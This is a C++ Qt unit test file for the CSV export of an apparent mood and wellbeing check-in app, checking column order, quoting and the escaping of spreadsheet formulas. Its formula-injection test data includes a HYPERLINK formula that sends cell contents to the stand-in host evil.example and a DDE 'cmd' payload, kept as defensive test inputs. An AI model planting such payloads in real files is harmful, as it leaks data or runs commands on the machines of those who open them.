#include "exchange/csvexport.h"

#include <QTest>

using namespace boost::gregorian;
using boost::posix_time::ptime;
using boost::posix_time::time_duration;

namespace {

tend::CheckinDefinition definition() {
    return tend::parseCheckinDefinition(R"({
        "format": "tend.checkin-definition", "version": 1,
        "items": [
            {"id": "mood", "name": "mood", "text": "Mood?", "group": "wellbeing", "kind": "rating",
             "scale": {"min": 0, "max": 4, "labels": ["a", "b", "c", "d", "e"]}, "polarity": "higher_is_better"},
            {"id": "calm", "name": "calm", "text": "Calm?", "group": "wellbeing", "kind": "rating",
             "scale": {"min": -2, "max": 2, "labels": ["a", "b", "c", "d", "e"]}, "polarity": "higher_is_better"},
            {"id": "hard_cases", "name": "hard cases", "text": "How many?", "group": "exposure", "kind": "count",
             "scale": {"min": 0, "max": 30}, "polarity": "higher_is_worse"}
        ]
    })");
}

tend::Checkin checkinOn(date day, std::map<std::string, int> answers, std::string note = {}) {
    tend::Checkin checkin;
    checkin.date = day;
    checkin.answers = std::move(answers);
    checkin.note = std::move(note);
    checkin.createdAt = ptime(day, time_duration(20, 0, 0));
    checkin.updatedAt = checkin.createdAt;
    return checkin;
}

tend::HardMoment momentAt(date day, int hour, int intensity) {
    tend::HardMoment moment;
    moment.occurredAt = ptime(day, time_duration(hour, 0, 0));
    moment.intensity = intensity;
    return moment;
}

const std::string bom = "\xEF\xBB\xBF";
const std::string header = "date,rest_day,mood,calm,hard_cases,hard_moments,hard_moments_max_intensity,"
                           "selfcare_done,note\r\n";

std::string csvOfNote(const std::string& note) {
    tend::ExportData data;
    data.checkins.push_back(checkinOn(date(2026, 3, 1), {{"mood", 2}}, note));
    return tend::exportToCsv(data, definition());
}

} // namespace

class TestCsvExport final : public QObject {
    Q_OBJECT

private slots:
    void emptyDataGivesTheHeaderOnly() { QCOMPARE(tend::exportToCsv({}, definition()), bom + header); }

    void writesOneRowPerDayInDateOrder() {
        tend::ExportData data;
        auto restDay = checkinOn(date(2026, 3, 2), {{"calm", -2}}, "slept most of the day");
        restDay.restDay = true;
        restDay.selfCareDone = {3, 7};
        // Deliberately out of order: the rows still come by date.
        data.checkins.push_back(restDay);
        data.checkins.push_back(checkinOn(date(2026, 3, 1), {{"mood", 4}, {"calm", 0}, {"hard_cases", 12}}));
        data.hardMoments = {momentAt(date(2026, 3, 1), 9, 1), momentAt(date(2026, 3, 1), 15, 3),
                            momentAt(date(2026, 3, 4), 11, 2)};

        QCOMPARE(tend::exportToCsv(data, definition()), bom + header +
                                                            "2026-03-01,0,4,0,12,2,3,0,\r\n"
                                                            "2026-03-02,1,,-2,,0,,2,slept most of the day\r\n"
                                                            "2026-03-04,,,,,1,2,,\r\n");
    }

    // A retired question keeps its column after the asked ones, so its old answers are exported too.
    void keepsAColumnForEachRetiredQuestion() {
        const auto withRetired = tend::parseCheckinDefinition(R"({
            "format": "tend.checkin-definition", "version": 2,
            "items": [
                {"id": "old_calm", "name": "calm", "text": "Calm?", "group": "wellbeing", "kind": "rating",
                 "scale": {"min": 0, "max": 2, "labels": ["a", "b", "c"]}, "polarity": "higher_is_better",
                 "retired": true},
                {"id": "mood", "name": "mood", "text": "Mood?", "group": "wellbeing", "kind": "rating",
                 "scale": {"min": 0, "max": 4, "labels": ["a", "b", "c", "d", "e"]}, "polarity": "higher_is_better"}
            ]
        })");
        tend::ExportData data;
        data.checkins.push_back(checkinOn(date(2026, 3, 1), {{"mood", 1}, {"old_calm", 2}}));
        QCOMPARE(
            tend::exportToCsv(data, withRetired),
            bom + "date,rest_day,mood,old_calm,hard_moments,hard_moments_max_intensity,selfcare_done,note\r\n"
                  "2026-03-01,0,1,2,0,,0,\r\n");
    }

    void quotesCommasQuotesAndLineBreaks() {
        QCOMPARE(csvOfNote("tired, but ok"), bom + header + "2026-03-01,0,2,,,0,,0,\"tired, but ok\"\r\n");
        QCOMPARE(csvOfNote("she said \"enough\""),
                 bom + header + "2026-03-01,0,2,,,0,,0,\"she said \"\"enough\"\"\"\r\n");
        QCOMPARE(csvOfNote("line one\nline two\r\nthree"),
                 bom + header + "2026-03-01,0,2,,,0,,0,\"line one\nline two\r\nthree\"\r\n");
    }

    void neutralisesFormulas_data() {
        QTest::addColumn<QByteArray>("note");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("hyperlink") << QByteArray("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")
                                   << QByteArray(
                                          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
        QTest::newRow("plus") << QByteArray("+cmd|' /C calc'!A0") << QByteArray("'+cmd|' /C calc'!A0");
        QTest::newRow("at") << QByteArray("@SUM(1+1)*cmd") << QByteArray("'@SUM(1+1)*cmd");
        QTest::newRow("minus") << QByteArray("-2+3") << QByteArray("'-2+3");
        QTest::newRow("tab") << QByteArray("\t=1+1") << QByteArray("'\t=1+1");
        QTest::newRow("carriage return") << QByteArray("\r=1+1") << QByteArray("\"'\r=1+1\"");
        QTest::newRow("formula after a comma stays text") << QByteArray("a,=1+1") << QByteArray("\"a,=1+1\"");
        QTest::newRow("equals later is harmless") << QByteArray("1+1=2") << QByteArray("1+1=2");
        QTest::newRow("unicode") << QByteArray("müde – 疲れた") << QByteArray("müde – 疲れた");
    }

    void neutralisesFormulas() {
        QFETCH(QByteArray, note);
        QFETCH(QByteArray, cell);
        QCOMPARE(csvOfNote(note.toStdString()),
                 bom + header + "2026-03-01,0,2,,,0,,0," + cell.toStdString() + "\r\n");
    }

    void numbersStayNumbers() {
        // A negative answer is a number, not a formula: it must stay a plain cell a spreadsheet can add up.
        tend::ExportData data;
        data.checkins.push_back(checkinOn(date(2026, 3, 1), {{"calm", -1}}));
        QCOMPARE(tend::exportToCsv(data, definition()), bom + header + "2026-03-01,0,,-1,,0,,0,\r\n");
    }

    void itemColumnsFollowTheDefinition() {
        const auto shipped = tend::parseCheckinDefinition(R"({
            "format": "tend.checkin-definition", "version": 1,
            "items": [
                {"id": "zeta", "name": "z", "text": "Z?", "group": "wellbeing", "kind": "count",
                 "scale": {"min": 0, "max": 9}, "polarity": "higher_is_better"},
                {"id": "alpha", "name": "a", "text": "A?", "group": "wellbeing", "kind": "count",
                 "scale": {"min": 0, "max": 9}, "polarity": "higher_is_better"}
            ]
        })");
        tend::ExportData data;
        data.checkins.push_back(checkinOn(date(2026, 3, 1), {{"alpha", 1}, {"zeta", 9}}));
        QCOMPARE(tend::exportToCsv(data, shipped),
                 bom +
                     "date,rest_day,zeta,alpha,hard_moments,hard_moments_max_intensity,selfcare_done,note\r\n"
                     "2026-03-01,0,9,1,0,,0,\r\n");
    }
};

QTEST_APPLESS_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
